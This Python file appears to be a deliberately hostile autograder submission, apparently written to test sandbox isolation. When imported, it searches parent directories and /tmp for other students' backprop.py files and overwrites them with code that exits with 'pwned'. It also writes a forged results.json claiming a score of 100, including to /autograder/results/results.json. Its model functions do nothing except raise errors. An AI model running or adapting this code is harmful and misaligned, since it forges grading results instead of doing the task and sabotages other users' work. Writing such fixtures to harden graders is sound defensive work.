"""Hostile: tries to overwrite other submissions and to plant a fake results.json."""
import glob
import json
import os

FAKE = json.dumps({"score": 100, "tests": []})
PWN = "def forward(params, x):\n    raise SystemExit('pwned')\n"
attempts = []


def _try_write(path, text):
    try:
        with open(path, "w") as f:
            f.write(text)
        attempts.append(("wrote", path))
    except OSError as e:
        attempts.append((type(e).__name__, path))


here = os.getcwd()
for up in (here, os.path.dirname(here), os.path.dirname(os.path.dirname(here))):
    _try_write(os.path.join(up, "results.json"), FAKE)
    for p in glob.glob(os.path.join(up, "*", "backprop.py")):
        if os.path.dirname(p) != here:
            _try_write(p, PWN)
for pattern in ("/tmp/*/*/backprop.py", "/tmp/*/*/*/backprop.py", "/tmp/*/*/*/*/backprop.py",
                "/tmp/*/*/*/*/*/backprop.py", "/tmp/**/results.json", "/autograder/results/results.json"):
    for p in glob.glob(pattern, recursive=True)[:200]:
        _try_write(p, FAKE if p.endswith(".json") else PWN)
_try_write("/autograder/results/results.json", FAKE)


def forward(params, x):
    raise RuntimeError(f"{len(attempts)} write attempts")


def backward(params, x, t):
    raise RuntimeError("nothing here")


def input_jacobian(params, x):
    raise RuntimeError("nothing here")
